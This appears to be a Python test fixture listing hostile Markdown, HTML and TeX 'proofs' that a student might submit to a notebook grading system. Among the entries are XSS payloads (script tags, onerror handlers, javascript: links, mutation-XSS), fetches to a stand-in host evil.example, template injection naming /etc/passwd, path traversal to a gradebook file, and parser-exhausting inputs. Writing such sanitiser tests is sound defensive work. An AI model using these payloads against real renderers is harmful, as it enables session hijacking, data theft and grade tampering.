"""What a hostile student may write where a proof is asked for: each tries to run, to fetch, or to write something in
the browser of the teacher who opens it.  A script that runs sets `window.hacked`."""

RUN = "window.hacked=1;alert(1);fetch('/api/contents/hacked.txt',{method:'PUT'})"
FETCH = "https://evil.example/"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HONEST = (r"(a) Since $S_a$ and $S_b$ differ in $n$ records, $$\Pr[L(S_b)=a]\ge\tfrac12e^{-\varepsilon n}$$ and so on, "
          "**for all** places $a<b$.\n\n\\begin{align}1&\\ge\\sum_a p_a\\\\&\\ge N-1\\end{align}\n\n1. one\n2. two\n\n"
          "![my page](attachment:page.png)\n")

PROOFS = {
    "a script": f"<script>{RUN}</script>",
    "a script on one line of text": f"so <script>{RUN}</script> follows",
    "a script after a blank line": f"<div>\n\n<script>{RUN}</script>\n\n</div>",
    "a script from elsewhere": f"<script src='{FETCH}x.js'></script>",
    "a module": f"<script type='module'>import '{FETCH}x.js'</script>",
    "an unclosed script": f"<script>{RUN}",
    "capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "a picture that fails": f"<img src=x onerror=\"{RUN}\">",
    "a picture from elsewhere": f"![dot]({FETCH}dot.png)",
    "a picture from elsewhere, as HTML": f"<img src='{FETCH}dot.png'>",
    "a picture from the server": "![me](/api/contents/)",
    "a picture beside the notebook": "![up](../../../gradebook.db)",
    "a picture by reference": f"![dot][1]\n\n[1]: {FETCH}dot.png",
    "a picture that leaves its quotes": f"![x\" onerror=\"{RUN}](attachment:page.png)",
    "an attachment that leaves its quotes": f"![x](attachment:page.png\"onerror=\"{RUN})",
    "an attachment that is not there": "![x](attachment:nothing.png)",
    "an SVG as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "HTML as data": "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a PNG that is none": "![x](data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "an SVG": f"<svg onload=\"{RUN}\"><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    "MathML": f"<math><mtext><table><mglyph><style><img src=x "
              f"onerror=\"{RUN}\"></style></mglyph></table></mtext></math>",
    "a frame": f"<iframe src='{FETCH}'></iframe>",
    "a frame with a page": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "a frame of the server": "<iframe src='/formgrader'></iframe>",
    "an object": f"<object data='{FETCH}x.swf'></object><embed src='{FETCH}x.pdf'>",
    "a style": f"<style>@import '{FETCH}x.css'; body{{background:url({FETCH}b.png)}}</style>",
    "a style on an element": f"<div style='background:url({FETCH}b.png);position:fixed;inset:0'>x</div>",
    "a style sheet": f"<link rel='stylesheet' href='{FETCH}x.css'>",
    "a preload": f"<link rel='prefetch' href='{FETCH}x'><link rel='preconnect' href='{FETCH}'>",
    "another base": f"<base href='{FETCH}'>",
    "a page that moves on": f"<meta http-equiv='refresh' content='0;url={FETCH}'>",
    "a form": f"<form action='/api/contents/hacked.txt' method='post'><input autofocus onfocus=\"{RUN}\"></form>",
    "an opened fold": f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>",
    "media": f"<video src='{FETCH}x.mp4' autoplay></video><audio src=x onerror=\"{RUN}\">",
    "a marquee": f"<marquee onstart=\"{RUN}\">x</marquee>",
    "an animation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart=\"{RUN}\">x</b>",
    "a template": f"<template shadowrootmode=open><script>{RUN}</script></template>",
    "a link that runs": f"[click](javascript:{RUN.replace(')', '%29')})",
    "a link that runs, in disguise": "[click](&#106;avascript:alert&#40;1&#41;) <a href='java\tscript:alert(1)'>x</a>",
    "a link by itself": f"<{FETCH}> {FETCH} <javascript:alert(1)>",
    "a link as data": "[x](data:text/html,<script>alert(1)</script>)",
    "a title with a quote": f"[x]({FETCH} '\" onmouseover=\"{RUN}')",
    "TeX, a link": rf"$\href{{javascript:{RUN}}}{{x}}$ and \\(\href{{javascript:alert(1)}}{{x}}\\)",
    "TeX, an address": rf"$$\url{{{FETCH}}}$$",
    "TeX, a style": rf"$\style{{background:url({FETCH}b.png)}}{{x}}$ $\class{{nbgrader_cell}}{{x}}$ "
                    r"$\cssId{notebook}{x}$",
    "TeX, another file": rf"$\require{{{FETCH}x}}\includegraphics{{{FETCH}dot.png}}\unicode{{x41}}$",
    "TeX, a macro": r"$\def\x{\x\x}\x$ $\newcommand{\y}{\y\y}\y$ $\let\frac\sqrt$",
    "TeX, HTML in it": f"$a</script><img src=x onerror=\"{RUN}\">$",
    "TeX, an environment": rf"\begin{{x}}<img src=x onerror='{RUN}'>\end{{x}}"
                          rf"\begin{{align}}\href{{{FETCH}}}{{x}}\end{{align}}",
    "TeX without its dollars": rf"\\[\href{{javascript:{RUN}}}{{x}}\\] \$\url{{{FETCH}}}\$ \begin{{equation}}",
    "TeX over several marks": r"$x *$\hr*ef{javascript:alert(1)}{x}$ **$",
    "MathJax's own scripts": f"<script type='math/tex'>\\href{{javascript:{RUN}}}{{x}}</script>"
                             f"<script type='text/x-mathjax-config'>{RUN}</script>",
    "code that leaves its fence": f"```\"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```",
    "code in a language of its own": f"```html\"onload=\"x\n<script>{RUN}</script>\n```\n\n```mermaid\n<img src=x "
                                     f"onerror=\"{RUN}\">\n```",
    "a table": f"| a |\n|---|\n| <img src=x onerror=\"{RUN}\"> |",
    "a heading": f"# <img src=x onerror=\"{RUN}\">\n\n## x {{onclick=alert(1)}}",
    "a comment": f"<!--><script>{RUN}</script>-->",
    "CDATA": f"<![CDATA[><script>{RUN}</script>]]><?xml version='1.0'?><!DOCTYPE x>",
    "an end of the page": f"</div></div></body></html><script>{RUN}</script>",
    "an end of the box": f"</div>\n\n</div>\n\n<script>{RUN}</script>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "nothing but brackets": "[" * 20_000,
    "a template's words": "{{ resources }} {% include '/etc/passwd' %} {{ 7*7 }}",
    "a new name for the page's own": "<a id='notebook' name='Notebook'></a><input id='packing' value='5'>",
    "markup that is parsed twice": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
                                   f'onerror={RUN}&gt;"><noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "addresses in other spellings": f"[b](JaVaScRiPt&colon;{RUN}) [c](java&#x0A;script:{RUN}) [e][1]\n\n"
                                    f"[1]: javascript:{RUN}\n\n<a href='&#1;javascript:{RUN}'>f</a>",
    "TeX, boxes that cover the page": r"$\gdef\Pr{\text{full marks}}\global\let\ge\le$ $\rule{9999em}{9999em}$ "
                                      r"$\kern-999em\smash{\Huge 5}$",
    "TeX, macros that grow": r"$\def\b{x}" + "".join(rf"\def\{y}{{{(chr(92) + x) * 9}}}" for x, y in zip(
        "bcdefghij", "cdefghijk")) + r"\k$",
    "what takes a parser time": "> " * 2000 + "x\n\n" + "*a_" * 3000 + "\n\n" + "`" * 999 + " x\n\n" + "<" * 5000,
}
